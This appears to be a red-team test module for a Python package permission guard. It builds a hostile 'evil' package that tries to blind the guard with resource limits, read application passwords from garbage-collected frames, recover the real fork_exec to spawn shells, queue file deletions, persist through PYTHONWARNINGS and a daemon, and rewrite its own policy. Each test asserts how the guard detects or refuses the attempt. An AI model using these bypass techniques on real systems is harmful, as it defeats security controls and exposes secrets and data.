"""Red team of ``permpip run``, sixth round: what the interpreter and the standard library do
that the guard reads differently. A distribution ``evil`` built by tests/builders.py and
installed by pip into a real venv (granted nothing, or what each test says) tries to:

1. make the guard fail open or lose its record (resource limits, the recursion limit, its
   own event descriptor);
2. reach frames, objects and code with no event the guard judges (``gc`` debugging,
   ``asyncio`` task stacks, standard library compilers, the guard's own generators);
3. have its use run as the application's (work queued where the application's thread or
   event loop runs it, its own file imported under another spelling of its path);
4. escape in a child process (``os.fork`` while the guard is inside its own file IO, a
   process that outlives the run, ``PYTHONWARNINGS``, the application's ``posix_spawn``);
5. reach a host outside its ``hosts`` (TLS SNI, a redirect).

Harness: tests/runtime/test_guard_redteam5.py's (``run``, ``judged``, ``bypass5``: a bypass
whose attack no longer takes effect fails with AttackFailed, not an expected failure), with
this round's own venv. Each test checks the effect happened for real (a file written or
gone, a request the local server received, a secret printed, a child's output) and asserts
what docs/runtime.md says a correct guard reports. An attempt the guard stops is a plain
test asserting the report; one that succeeds is marked ``xfail(strict=True)`` with its
mechanism and what would close it.
"""

from __future__ import annotations

import os
import sys
import textwrap
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest

from tests.runtime.conftest import RunPermpip, Target, read_report
from tests.runtime.test_guard_redteam import Outcome
from tests.runtime.test_guard_redteam4 import LOCAL, RawProxy
from tests.runtime.test_guard_redteam4 import proxy as proxy  # noqa: F401 - the fixture
from tests.runtime.test_guard_redteam5 import (
    MODES,
    _victim,
    bypass5,
    evil_venv,
    judged,
    run,
    took_effect,
)

EVIL = {
    "evil/__init__.py": "",
    # -- 1. failing open, losing the record ------------------------------------------------------
    "evil/blind.py": """\
        import _socket, os, resource, signal, sys

        def _get(port, tag):
            # C calls only: no standard library frame between evil and the connect
            s = _socket.socket()
            s.connect(("127.0.0.1", port))
            s.sendall(b"GET /beacon?" + tag + b" HTTP/1.0\\r\\n\\r\\n")
            s.recv(100)
            s.close()

        def _try(port, tag):
            try:
                _get(port, tag)
                print("sent")
            except PermissionError as exc:
                print("refused:", exc)

        def file_size_limit(port):
            # the guard appends its records to events.jsonl with os.write: past
            # RLIMIT_FSIZE (SIGXFSZ ignored) the write fails with EFBIG, and it goes on
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
            resource.setrlimit(resource.RLIMIT_FSIZE, (1, hard))
            try:
                _try(port, b"fsize")
            finally:
                resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))

        def descriptor_limit(port):
            # no descriptor left but the one the connect needs: the guard writes on the
            # one it opened at start
            top = max(fd for fd in range(1024) if _is_open(fd))
            soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
            resource.setrlimit(resource.RLIMIT_NOFILE, (top + 2, hard))
            try:
                _try(port, b"nofile")
            finally:
                resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))

        def _is_open(fd):
            try:
                os.fstat(fd)
                return True
            except OSError:
                return False

        def _at(depth, fn, *args):
            if depth > 0:
                return _at(depth - 1, fn, *args)
            return fn(*args)

        def recursion_limit(port):
            # the deepest call that reaches the connect: the guard's frames run out of
            # stack there, and so does the record of its failure
            for depth in range(sys.getrecursionlimit(), 0, -1):
                try:
                    _at(depth, _try, port, b"recursion")
                    return
                except RecursionError:
                    continue

        def partial_record():
            # half a record, no newline, on the guard's own descriptor (os.write: no event):
            # the guard's next record ends that line
            for fd in range(3, 256):
                try:
                    if os.readlink("/proc/self/fd/%d" % fd).endswith("events.jsonl"):
                        os.write(fd, b'{"kind": "start", "argv": ["')
                except OSError:
                    pass
        """,
    "evil/net.py": """\
        import urllib.request
        def beacon(url, tag="beacon"):
            try:
                urllib.request.urlopen(url + "?" + tag).read()
                print(tag + ": sent", flush=True)
            except OSError as exc:
                print(tag + ":", type(getattr(exc, "reason", exc)).__name__, flush=True)
        """,
    # -- 2. frames, objects and code with no event -----------------------------------------------
    "evil/spy.py": """\
        import asyncio, gc

        def arm():
            gc.set_debug(gc.DEBUG_SAVEALL)  # no event: what a collection frees is kept

        def garbage(name):
            gc.collect()
            gc.set_debug(0)
            for o in gc.garbage:  # a list, read with no event
                if type(o).__name__ == "frame" and name in o.f_locals:
                    return o.f_locals[name]

        def task_stacks(name):
            for task in asyncio.all_tasks():
                for frame in task.get_stack():  # asyncio reads cr_frame for its caller
                    if name in frame.f_locals:
                        return frame.f_locals[name]

        def coroutine_frames(name):
            for task in asyncio.all_tasks():
                frame = task.get_coro().cr_frame
                if frame is not None and name in frame.f_locals:
                    return frame.f_locals[name]
        """,
    "evil/dyn.py": """\
        import code, codeop, timeit, types

        def timeit_(src):
            timeit.Timer(src).timeit(1)

        def codeop_(src):
            c = codeop.compile_command("def _f():\\n    " + src + "\\n", symbol="exec")
            [body] = [k for k in c.co_consts if isinstance(k, types.CodeType)]
            types.FunctionType(body, globals())()

        def interpreter(src):
            code.InteractiveInterpreter({}).runsource(src)
        """,
    "evil/vault.py": """\
        import gc, os, _posixsubprocess, _thread

        class _Stop(Exception):
            pass

        def _pool(wrapper):
            cells = dict(zip(wrapper.__code__.co_freevars, wrapper.__closure__))
            return cells["pool"].cell_contents

        def _locals(wrapper, saveall=True):
            # a replacement's generator, thrown into: its frame, in a cycle, kept by SAVEALL
            gen = _pool(wrapper).pop()
            try:
                gen.throw(_Stop)
            except _Stop as exc:
                exc.cycle = exc
            del gen
            if saveall:
                gc.set_debug(gc.DEBUG_SAVEALL)
            gc.collect()
            if saveall:
                gc.set_debug(0)
            for o in gc.garbage:
                if type(o).__name__ == "frame" and "real" in o.f_locals:
                    return o.f_locals

        def _thrown(wrapper):
            # the same, where the application has DEBUG_SAVEALL on (a leak hunt)
            return _locals(wrapper, saveall=False) or {}

        def spawn_saved(marker):
            fork_exec = _thrown(_posixsubprocess.fork_exec).get("real")
            print("real fork_exec:", fork_exec)

        def spawn(marker):
            fork_exec = _locals(_posixsubprocess.fork_exec)["real"]
            r, w = os.pipe()
            pid = fork_exec([b"/bin/sh", b"-c", b"echo x > " + marker.encode()],
                            [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1,
                            r, w, True, False, -1, None, None, None, -1, None, False)
            os.close(w)
            os.waitpid(pid, 0)

        def thread(marker):
            start = _locals(_thread.start_new_thread)["real"]
            done = _thread.allocate_lock()
            done.acquire()
            def work():
                with open(marker, "w") as f:  # (fs-write granted: the thread is the proof)
                    f.write("x")
                done.release()
            start(work, ())
            done.acquire()

        def gi_frame():
            return _pool(_posixsubprocess.fork_exec)[-1].gi_frame.f_locals["real"]

        def _switch_off(frame):
            # from a frame inside the guard's hook: its event table, cleared
            while frame is not None and "_get" not in frame.f_locals:
                frame = frame.f_back
            if frame is None:
                return False
            frame.f_locals["_get"].__self__.clear()
            return True

        def switch_off(port, marker):
            import signal, _signal, _socket, time
            cells = dict(zip(_signal.signal.__code__.co_freevars, _signal.signal.__closure__))
            real_signal = _locals(cells["set_real"].cell_contents)["real"]
            done = []
            def on_alarm(signum, frame):  # not wrapped: run in whatever frame it lands
                if not done and _switch_off(frame):
                    done.append(True)
            real_signal(signal.SIGALRM, on_alarm)
            signal.setitimer(signal.ITIMER_REAL, 0.0002, 0.0002)
            end = time.monotonic() + 5
            while time.monotonic() < end and not done:
                try:
                    open("/etc/hostname").close()
                except OSError:
                    pass
            signal.setitimer(signal.ITIMER_REAL, 0)
            print("OFF", bool(done))
            print("LEAK", os.environ["TARGET_URL"])
            s = _socket.socket()
            s.connect(("127.0.0.1", port))
            s.sendall(b"GET /beacon?off HTTP/1.0\\r\\n\\r\\n")
            s.recv(10)
            s.close()
            os.system("echo x > " + marker)
        """,
    "evil/prims.py": """\
        import _multiprocessing
        def semaphore(name):
            # a named POSIX semaphore is a file, /dev/shm/sem.NAME, made in C (no event)
            _multiprocessing.SemLock(1, 1, 1, name, False)
        """,
    # -- 3. run as the application's ---------------------------------------------------------------
    "evil/queue.py": """\
        import asyncio, concurrent.futures, copyreg, functools, shutil, weakref

        class Token:
            pass

        def executor(ex, path):
            ex.submit(shutil.rmtree, path)  # a worker the application started runs it

        def call_soon(path):
            asyncio.get_running_loop().call_soon(shutil.rmtree, path)

        def weak_callback(path):
            # rmtree(path, ignore_errors=ref) when the application drops the token
            t = Token()
            t.ref = weakref.ref(t, functools.partial(shutil.rmtree, path))
            return t

        def reducer(path):
            # rmtree(path, ignore_errors=obj) when the application pickles a Token
            copyreg.pickle(Token, functools.partial(shutil.rmtree, path))

        # the same work where its own code or its own thread is on the stack
        def own_executor(path):
            with concurrent.futures.ThreadPoolExecutor(1) as ex:
                ex.submit(shutil.rmtree, path).result()

        def default_executor(path):
            return asyncio.get_running_loop().run_in_executor(None, shutil.rmtree, path)

        async def _rm(path):
            shutil.rmtree(path)

        def own_coroutine(path):
            return asyncio.get_running_loop().create_task(_rm(path))

        def own_weak_callback(path):
            def gone(ref):
                shutil.rmtree(path)
            t = Token()
            t.ref = weakref.ref(t, gone)
            return t
        """,
    "evil/spell.py": """\
        import os, sys
        HERE = os.path.dirname(os.path.abspath(__file__))
        URL = ""
        def load(entry, url):
            # its own directory put on sys.path under another spelling: the import system
            # names the module's code after the entry as given
            global URL
            URL = url
            sys.path.insert(0, entry.replace("HERE", HERE))
            import _spelled
        """,
    "evil/_spelled.py": """\
        import urllib.request
        from evil.spell import URL
        try:
            urllib.request.urlopen(URL + "?spelled").read()
            print("spelled: sent")
        except OSError as exc:
            print("spelled:", type(getattr(exc, "reason", exc)).__name__)
        """,
    # -- 4. children -----------------------------------------------------------------------------
    "evil/fork.py": """\
        import os, sys, threading, time
        from evil.net import beacon

        def _stuck(meta):
            # a new entry on sys.path: the next file the guard classifies has it read the
            # RECORDs there, inside its own file IO (quiet), where a FIFO blocks it
            sys.path.append(meta)
            import imghdr
            imghdr.what(__file__)

        def arm(workdir, url, stuck):
            meta = os.path.join(workdir, "meta")
            os.makedirs(os.path.join(meta, "x-1.0.dist-info"))
            os.mkfifo(os.path.join(meta, "x-1.0.dist-info", "RECORD"))
            if stuck:
                threading.Thread(target=_stuck, args=(meta,), daemon=True).start()
                time.sleep(0.5)

            def in_child():
                # glibc gives the child's first new thread the stack, and so the thread
                # id, of the thread the fork left behind
                t = threading.Thread(target=beacon, args=(url, "forked"))
                t.start()
                t.join()

            os.register_at_fork(after_in_child=in_child)
        """,
    "evil/daemon.py": """\
        import os, subprocess, sys
        def start(url):
            r, w = os.pipe()
            subprocess.Popen([sys.executable, "-c", "import sys, evil._late; "
                              "evil._late.main(sys.argv[1], int(sys.argv[2]))", url, str(w)],
                             start_new_session=True, pass_fds=(w,))
            os.close(w)
            os.read(r, 1)  # the daemon has started, with the guard
        """,
    "evil/_late.py": """\
        import os, subprocess, sys, time
        def main(url, ready):
            run_dir = sys.path[1]  # first on PYTHONPATH
            guard = getattr(sys.modules.get("sitecustomize"), "__file__", "")
            print("daemon: guarded:", guard.startswith(run_dir), flush=True)
            os.write(ready, b"x")
            os.close(ready)
            for _ in range(400):
                if not os.path.exists(run_dir):
                    break
                time.sleep(0.025)
            print("daemon: run directory gone:", not os.path.exists(run_dir), flush=True)
            subprocess.run([sys.executable, "-c", "import sys, evil.net; "
                            "evil.net.beacon(sys.argv[1], 'late')", url])
        """,
    "evil/warn.py": """\
        import os
        def arm():
            # its own site directory after the guard on PYTHONPATH (allowed: the guard stays
            # first), and a warning category of its own: every later Python child imports
            # evil._boot to read it, while processing warning options, before site
            site = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
            os.environ["PYTHONPATH"] += os.pathsep + site
            os.environ["PYTHONWARNINGS"] = "ignore::evil._boot.Boot"
        """,
    "evil/early.py": """\
        import os
        def set_(name, value):
            os.environ[name] = value
        """,
    "evil/_boot.py": """\
        import os
        from evil.net import beacon
        beacon(os.environ.get("TARGET_URL", "http://127.0.0.1:9/"), "startup")
        class Boot(Warning):
            pass
        """,
    "evil/policy.py": """\
        def grant_itself():
            # the run's working directory: the project, whose pyproject.toml is the policy
            with open("pyproject.toml", "r+") as f:
                text = f.read()
                f.seek(0)
                f.write(text.replace('evil = ["fs-write"]', 'evil = ["fs-write", "network"]'))
                f.truncate()
        """,
    # -- 5. hosts ----------------------------------------------------------------------------------
    "evil/tls.py": """\
        import socket, ssl
        def hello(port, server_hostname):
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            with socket.create_connection(("localhost", port), timeout=5) as s:
                try:
                    ctx.wrap_socket(s, server_hostname=server_hostname)
                    print("tls: done")
                except OSError as exc:
                    print("tls:", type(exc).__name__)
        """,
}


@pytest.fixture(scope="module")
def python(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A venv with this round's evil installed."""
    return evil_venv(tmp_path_factory, "redteam6-venv", EVIL)


def violation(o: Outcome, capability: str) -> dict:
    [v] = [v for v in o.report["violations"] if v["capability"] == capability]
    return v


# -- 1. failing open, losing the record --------------------------------------------------------


@MODES
def test_a_file_size_limit_drops_the_guards_records(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path,
        enforce: bool) -> None:
    o = run(tmp_path, run_permpip, python, "import os, evil.blind\n"
            f"evil.blind.file_size_limit({target.port})\n", target=target, enforce=enforce)
    """RLIMIT_FSIZE below the size of events.jsonl (SIGXFSZ ignored): the guard's write
    fails with EFBIG; the record is kept aside (a symbolic link in the run directory, no
    file size needed), read back, and the run fails with an error naming it."""
    if enforce:  # the call is refused (the refusal names evil): but is it in the report?
        took_effect("refused: permpip: evil 1.0 may not use network" in o.output, o)
    judged(o, target.requests == ["/beacon?fsize"], ("evil", "network"), enforce)
    v = violation(o, "network")
    assert (v["package"], v["phase"], v["event"], v["denied"]) == (
        "evil", "runtime", "socket.connect", enforce)
    [error] = o.report["errors"]
    assert error.endswith("the guard could not write a record to events.jsonl "
                          "(events.jsonl: File too large): violation evil network runtime"), error
    assert o.code == 1


@MODES
def test_the_recursion_limit_makes_the_guard_fail_open(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path,
        enforce: bool) -> None:
    """A use at the edge of the recursion limit: the guard's own frames run out of it; the
    hook raises the limit and handles the event again, so the use is judged (not a guard
    failure) and recorded."""
    o = run(tmp_path, run_permpip, python, "import evil.blind\n"
            f"evil.blind.recursion_limit({target.port})\n", target=target, enforce=enforce)
    if enforce:
        assert "refused: permpip: evil 1.0 may not use network (socket.connect" in o.output, \
            o.output
    judged(o, target.requests == ["/beacon?recursion"], ("evil", "network"), enforce)
    v = violation(o, "network")
    assert (v["package"], v["phase"], v["event"], v["denied"]) == (
        "evil", "runtime", "socket.connect", enforce)
    assert o.report["errors"] == [] and o.code == 1


def test_a_descriptor_limit_does_not_silence_the_guard(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path) -> None:
    """The events descriptor is opened at start: with no descriptor to spare (RLIMIT_NOFILE
    lowered to what the connect itself needs), the record is still written."""
    o = run(tmp_path, run_permpip, python, "import evil.blind\n"
            f"evil.blind.descriptor_limit({target.port})\n", target=target, enforce=True)
    assert target.requests == [], o.output
    v = violation(o, "network")
    assert (v["package"], v["phase"], v["event"]) == ("evil", "runtime", "socket.connect")
    assert v["evidence"] == f"evil/blind.py:6 (runtime) -> socket.connect 127.0.0.1:{target.port}"
    assert o.used == [("evil", "network")] and o.code == 1


def test_half_a_record_on_the_guards_descriptor(tmp_path: Path, target: Target,
                                                run_permpip: RunPermpip, python: Path) -> None:
    o = run(tmp_path, run_permpip, python, "import os, evil.blind, evil.net\n"
            "evil.blind.partial_record()\nevil.net.beacon(os.environ['TARGET_URL'])\n",
            target=target)
    """Half a record written with os.write (no event) on the guard's own descriptor: each
    record of the guard starts on a line of its own, so the half line is reported as a
    record the guard did not write (the run fails) and the violation after it is read."""
    took_effect(target.requests == ["/beacon?beacon"] and o.code == 1, o)
    assert ("evil", "network") in o.used, o.report
    assert o.report["errors"] == ["events.jsonl:3: a record the guard did not write"], o.report


# -- 2. frames, objects and code with no event ---------------------------------------------------

APP_SECRET = """\
    def login():
        password = "hunter2-app-secret"
        try:
            raise ValueError("bad password")
        except ValueError as exc:
            err = exc  # a frame <-> traceback cycle: collected, not freed
        return len(password)
    """

APP_TASK = """\
    import asyncio, evil.spy
    async def worker():
        password = "hunter2-app-secret"
        await asyncio.sleep(0.3)
    async def main():
        t = asyncio.create_task(worker())
        await asyncio.sleep(0.05)
        try:
            print("LEAK", evil.spy.READ("password"))
        except PermissionError as exc:
            print("refused:", exc)
        await t
    asyncio.run(main())
    """


def test_collected_frames_through_gc_garbage(tmp_path: Path, run_permpip: RunPermpip,
                                             python: Path) -> None:
    """gc.set_debug(gc.DEBUG_SAVEALL) raises no event, and would keep every object a
    collection finds unreachable (the application's frames in a traceback cycle, with their
    locals) in gc.garbage, a plain list: the guard's replacement judges it introspection."""
    o = run(tmp_path, run_permpip, python, "import evil.spy\ntry:\n    evil.spy.arm()\n"
            "except PermissionError as exc:\n    print('refused:', exc)\n"
            + textwrap.dedent(APP_SECRET) + "login()\n"
            "print('LEAK', evil.spy.garbage('password'))\n", enforce=True)
    assert "hunter2" not in o.output and "LEAK None" in o.output, o.output
    assert "refused: permpip: evil 1.0 may not use introspection (gc.set_debug DEBUG_SAVEALL " \
        "at evil/spy.py:4)" in o.output, o.output
    v = violation(o, "introspection")
    assert (v["package"], v["phase"], v["event"], v["detail"]) == (
        "evil", "runtime", "gc.set_debug", "DEBUG_SAVEALL")
    assert o.used == [("evil", "introspection")]


def test_frames_of_the_applications_tasks_through_get_stack(
        tmp_path: Path, run_permpip: RunPermpip, python: Path) -> None:
    """asyncio.Task.get_stack() reads the coroutine's cr_frame in asyncio's own frame
    (base_tasks._task_get_stack) and hands the frames to its caller: a frame helper, whose
    read is its caller's (asyncio.all_tasks() reaches the application's tasks)."""
    o = run(tmp_path, run_permpip, python, textwrap.dedent(APP_TASK).replace(
        "READ", "task_stacks"), enforce=True)
    assert "hunter2" not in o.output and "refused: permpip: evil 1.0 may not use " \
        "introspection (object.__getattr__ coroutine.cr_frame at evil/spy.py:15)" \
        in o.output, o.output
    v = violation(o, "introspection")
    assert (v["package"], v["phase"], v["event"], v["detail"]) == (
        "evil", "runtime", "object.__getattr__", "coroutine.cr_frame")
    assert o.used == [("evil", "introspection")]


def test_frames_of_the_applications_tasks_through_cr_frame(
        tmp_path: Path, run_permpip: RunPermpip, python: Path) -> None:
    o = run(tmp_path, run_permpip, python, textwrap.dedent(APP_TASK).replace(
        "READ", "coroutine_frames"), enforce=True)
    assert "hunter2" not in o.output and "refused: permpip: evil 1.0 may not use " \
        "introspection (object.__getattr__ coroutine.cr_frame" in o.output, o.output
    v = violation(o, "introspection")
    assert (v["package"], v["phase"], v["event"], v["detail"]) == (
        "evil", "runtime", "object.__getattr__", "coroutine.cr_frame")
    assert o.used == [("evil", "introspection")]


@pytest.mark.parametrize(("helper", "line", "name"), [
    ("timeit_", 4, "<timeit-src>"), ("codeop_", 7, "<input>"), ("interpreter", 12, "<input>")])
def test_source_run_by_a_standard_library_compiler(tmp_path: Path, run_permpip: RunPermpip,
                                                   python: Path, helper: str, line: int,
                                                   name: str) -> None:
    """Source the package hands a standard library compiler (timeit.Timer,
    codeop.compile_command, code.InteractiveInterpreter.runsource) is compiled and run from
    the standard library's frames: the helpers that compile their caller's source (timeit,
    codeop, code, cProfile/profile, bdb/pdb, doctest) compile for their caller, whose
    dynamic-code it is."""
    marker = tmp_path / "marker"
    src = f"open({str(marker)!r}, 'w').write('x')"
    o = run(tmp_path, run_permpip, python, f"import evil.dyn\ntry:\n"
            f"    evil.dyn.{helper}({src!r})\n"
            "except PermissionError as exc:\n    print('refused:', exc)\n",
            grant='["fs-write"]', enforce=True)
    assert not marker.exists(), o.output
    assert f"refused: permpip: evil 1.0 may not use dynamic-code (compile {name} at " \
        f"evil/dyn.py:{line})" in o.output, o.output
    v = violation(o, "dynamic-code")
    assert (v["package"], v["phase"], v["event"], v["detail"]) == (
        "evil", "runtime", "compile", name)
    assert o.used == [("evil", "dynamic-code")]


@pytest.mark.skipif(sys.version_info[:2] != (3, 11),
                    reason="3.11's fork_exec arguments and _thread wrapper")
@pytest.mark.parametrize("what", ["spawn", "thread"])
def test_the_real_functions_behind_the_guards_replacements(
        tmp_path: Path, run_permpip: RunPermpip, python: Path, what: str) -> None:
    """The real _posixsubprocess.fork_exec / _thread.start_new_thread live in the frames of
    the replacement's generators, whose pool its __closure__ reaches (no event): an
    exception thrown into one (gen.throw) would end it with its frame in the traceback, and
    gc.set_debug(DEBUG_SAVEALL) would hand that frame back in gc.garbage. The collector's
    debugging is introspection (refused), and a generator of the guard's ignores what is
    thrown into it."""
    marker = tmp_path / "marker"
    o = run(tmp_path, run_permpip, python, "import evil.vault\ntry:\n"
            f"    evil.vault.{what}({str(marker)!r})\n"
            "except PermissionError as exc:\n    print('refused:', exc)\n",
            grant='["fs-write"]', enforce=True)
    assert not marker.exists(), o.output
    assert "refused: permpip: evil 1.0 may not use introspection (gc.set_debug DEBUG_SAVEALL " \
        "at evil/vault.py:19)" in o.output, o.output
    assert o.used == [("evil", "introspection")]


def test_the_guards_generators_with_the_applications_gc_debugging(
        tmp_path: Path, run_permpip: RunPermpip, python: Path) -> None:
    """The application has DEBUG_SAVEALL on (its grant): a generator of the guard's that
    evil throws into does not end, so no frame of it reaches gc.garbage."""
    marker = tmp_path / "marker"
    o = run(tmp_path, run_permpip, python, "import gc, evil.vault\n"
            "gc.set_debug(gc.DEBUG_SAVEALL)\n"
            f"evil.vault.spawn_saved({str(marker)!r})\n", enforce=True)
    assert "real fork_exec: None" in o.output, o.output
    assert o.used == [] and o.code == 0


def test_the_real_signal_function_switches_the_guard_off(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path) -> None:
    """The same route to the real _signal.signal (the closure of the guard's replacement
    holds its vault), whose handlers would land inside the hook and clear its event table:
    closed where the route is (gc.set_debug is introspection)."""
    marker = tmp_path / "marker"
    o = run(tmp_path, run_permpip, python, "import evil.vault\ntry:\n"
            f"    evil.vault.switch_off({target.port}, {str(marker)!r})\n"
            "except PermissionError as exc:\n    print('refused:', exc)\n", target=target,
            enforce=True)
    assert "OFF" not in o.output and target.requests == [] and not marker.exists(), o.output
    assert "refused: permpip: evil 1.0 may not use introspection (gc.set_debug DEBUG_SAVEALL " \
        "at evil/vault.py:19)" in o.output, o.output
    assert o.used == [("evil", "introspection")]


def test_the_generator_frame_of_a_replacement_is_introspection(
        tmp_path: Path, run_permpip: RunPermpip, python: Path) -> None:
    o = run(tmp_path, run_permpip, python, "import evil.vault\n"
            "try:\n    print('REAL', evil.vault.gi_frame())\n"
            "except PermissionError as exc:\n    print('refused:', exc)\n", enforce=True)
    assert "REAL" not in o.output and "refused: permpip: evil 1.0 may not use " \
        "introspection (object.__getattr__ generator.gi_frame" in o.output, o.output
    assert o.used == [("evil", "introspection")]


@bypass5("primitive", "inherent (docs/runtime.md, what the guard cannot see): "
         "_multiprocessing.SemLock(kind, value, max, name, unlink=False) creates "
         "/dev/shm/sem.NAME in C (sem_open) with no event; a replacement of "
         "_multiprocessing.SemLock would not hold: the constructor of a C type is the type, "
         "reachable with no event from any of its instances (type(lock._semlock) of any "
         "multiprocessing lock), and a built-in type's attributes cannot be replaced")
def test_a_named_semaphore_creates_a_file(tmp_path: Path, run_permpip: RunPermpip,
                                          python: Path) -> None:
    name = f"/permpip-red6-{os.getpid()}-{tmp_path.name}"
    sem = Path("/dev/shm") / ("sem." + name[1:])
    try:
        o = run(tmp_path, run_permpip, python,
                f"import evil.prims\nevil.prims.semaphore({name!r})\n", enforce=True)
        took_effect(sem.exists(), o)
    finally:
        sem.unlink(missing_ok=True)
    assert ("evil", "fs-write") in o.used


# -- 3. run as the application's ---------------------------------------------------------------


@pytest.mark.parametrize("main", [
    "import concurrent.futures, time\n"
    "with concurrent.futures.ThreadPoolExecutor(1) as ex:\n"
    "    ex.submit(time.sleep, 0.01).result()  # the application's worker is running\n"
    "    evil.queue.executor(ex, VICTIM)\n",
    "import asyncio\n"
    "async def main():\n"
    "    evil.queue.call_soon(VICTIM)\n"
    "    await asyncio.sleep(0.2)\n"
    "asyncio.run(main())\n",
    "token = evil.queue.weak_callback(VICTIM)\n"
    "del token  # the application drops what it was given\n",
    "import pickle\n"
    "evil.queue.reducer(VICTIM)\n"
    "try:\n"
    "    pickle.dumps(evil.queue.Token())\n"
    "except Exception as exc:\n"
    "    print('app:', type(exc).__name__)\n",
], ids=["application-executor", "application-event-loop", "weakref-callback",
        "copyreg-reducer"])
@bypass5("misattribution", "inherent (docs/runtime.md, what the guard cannot see): work "
         "the package queues where the application's thread or event loop runs it "
         "(Executor.submit into a pool the application started, loop.call_soon, a weakref.ref "
         "callback, a copyreg reducer) is a standard library callable run from the "
         "application's frames: no distribution frame, and the thread was started by the "
         "application; none of these raises an event, the registrations are plain Python "
         "(a work queue, a loop's deque, copyreg.dispatch_table, a dict anyone writes) or a "
         "C type's constructor (weakref.ref), and wrapping the first two means importing "
         "concurrent.futures and asyncio into every process at start")
def test_work_queued_where_the_application_runs_it(tmp_path: Path, run_permpip: RunPermpip,
                                                  python: Path, main: str) -> None:
    victim = _victim(tmp_path)
    o = run(tmp_path, run_permpip, python,
            f"import evil.queue\nVICTIM = {str(victim)!r}\n" + main, enforce=True)
    took_effect(not victim.exists(), o)
    assert ("evil", "fs-write") in o.used


@pytest.mark.parametrize(("main", "grant"), [
    ("evil.queue.own_executor(VICTIM)\n", '["threads"]'),
    ("import asyncio\n"
     "async def main():\n"
     "    await evil.queue.default_executor(VICTIM)\n"
     "asyncio.run(main())\n", '["threads"]'),
    ("import asyncio\n"
     "async def main():\n"
     "    await evil.queue.own_coroutine(VICTIM)\n"
     "asyncio.run(main())\n", "[]"),
    ("token = evil.queue.own_weak_callback(VICTIM)\ndel token\n", "[]"),
], ids=["own-executor", "loops-default-executor", "own-coroutine", "own-weakref-callback"])
def test_work_with_the_packages_code_or_thread(tmp_path: Path, run_permpip: RunPermpip,
                                               python: Path, main: str, grant: str) -> None:
    """The same work, where the package's own code is on the stack or the worker thread
    was started under its frame (the starter rule): evil's fs-write, refused."""
    victim = _victim(tmp_path)
    o = run(tmp_path, run_permpip, python, "import evil.queue\n"
            f"VICTIM = {str(victim)!r}\n" + main, grant=grant, enforce=True)
    assert victim.exists(), o.output
    v = violation(o, "fs-write")
    assert (v["package"], v["event"], v["detail"]) == ("evil", "shutil.rmtree", str(victim))
    assert o.used == [("evil", "fs-write")]


@pytest.mark.parametrize("entry", ["/HERE", "/proc/self/root/HERE", "HERE/../evil"],
                         ids=["double-slash", "proc-self-root", "dot-dot"])
def test_its_own_file_imported_under_another_spelling(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path,
        entry: str) -> None:
    """The package puts its own directory on sys.path spelled otherwise
    ('//site-packages/evil', '/proc/self/root/...', '.../evil/../evil') and imports a
    module of its own from it: the code is named after that spelling, which no RECORD lists
    and no site directory prefixes; classified by its real path, it is evil's file."""
    o = run(tmp_path, run_permpip, python, "import os, evil.spell\n"
            f"evil.spell.load({entry!r}, os.environ['TARGET_URL'])\n", target=target,
            enforce=True)
    assert target.requests == [] and "spelled: PermissionError" in o.output, o.output
    v = violation(o, "network")
    assert (v["package"], v["version"], v["phase"], v["event"]) == (
        "evil", "1.0", "import", "http.client.connect"), v
    assert v["where"].endswith("/_spelled.py:4") and v["where"] != "evil/_spelled.py:4", v
    assert o.used == [("evil", "network")]


def test_its_own_file_under_a_spelling_inside_the_site_directory(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path) -> None:
    """``.../site-packages/evil/.``: no RECORD names it as spelled, the site directory
    prefixes it: judged by its real path, evil's file (the distribution of its top
    directory, version ``?``, where the real path is in no RECORD either: fail closed)."""
    o = run(tmp_path, run_permpip, python, "import os, evil.spell\n"
            "evil.spell.load('HERE/.', os.environ['TARGET_URL'])\n", target=target,
            enforce=True)
    assert target.requests == [] and "spelled: PermissionError" in o.output, o.output
    v = violation(o, "network")
    assert (v["package"], v["version"], v["phase"], v["where"]) == (
        "evil", "1.0", "import", "evil/./_spelled.py:4")
    assert o.used == [("evil", "network")]


# -- 4. children ---------------------------------------------------------------------------------

FORK = """\
    import os, evil.fork
    evil.fork.arm(WORKDIR, os.environ["TARGET_URL"], stuck=STUCK)
    pid = os.fork()  # the application's (a multiprocessing 'fork' worker)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    print("app: done")
    """


def test_a_fork_while_the_guard_reads_a_fifo(tmp_path: Path, target: Target,
                                             run_permpip: RunPermpip, python: Path) -> None:
    """A thread of the package makes the guard read a RECORD that is a FIFO (in a directory
    it put on sys.path) so as to block it inside its own file IO (``quiet``) when the
    application forks, and a new thread of the child (the same thread id: glibc reuses the
    stack) pass unjudged. The guard reads RECORDs without blocking, regular files only,
    and a forked child keeps no per-thread state of the threads it did not inherit."""
    o = run(tmp_path, run_permpip, python, textwrap.dedent(FORK).replace(
        "WORKDIR", repr(str(tmp_path))).replace("STUCK", "True"), target=target,
        grant='["fs-write", "threads"]', enforce=True)
    assert target.requests == [] and "forked: PermissionError" in o.output, o.output
    assert "app: done" in o.output, o.output
    v = violation(o, "network")
    assert (v["package"], v["phase"]) == ("evil", "runtime")
    assert v["evidence"].startswith("evil/net.py:4 (runtime) -> urllib.request.urlopen -> "), \
        v["evidence"]
    # the thread that was to block goes on, and reads evil's file through imghdr
    r = violation(o, "fs-read")
    assert (r["package"], r["event"], r["where"]) == ("evil", "open", "evil/fork.py:9")
    assert sorted(o.used) == [("evil", "fs-read"), ("evil", "network")]


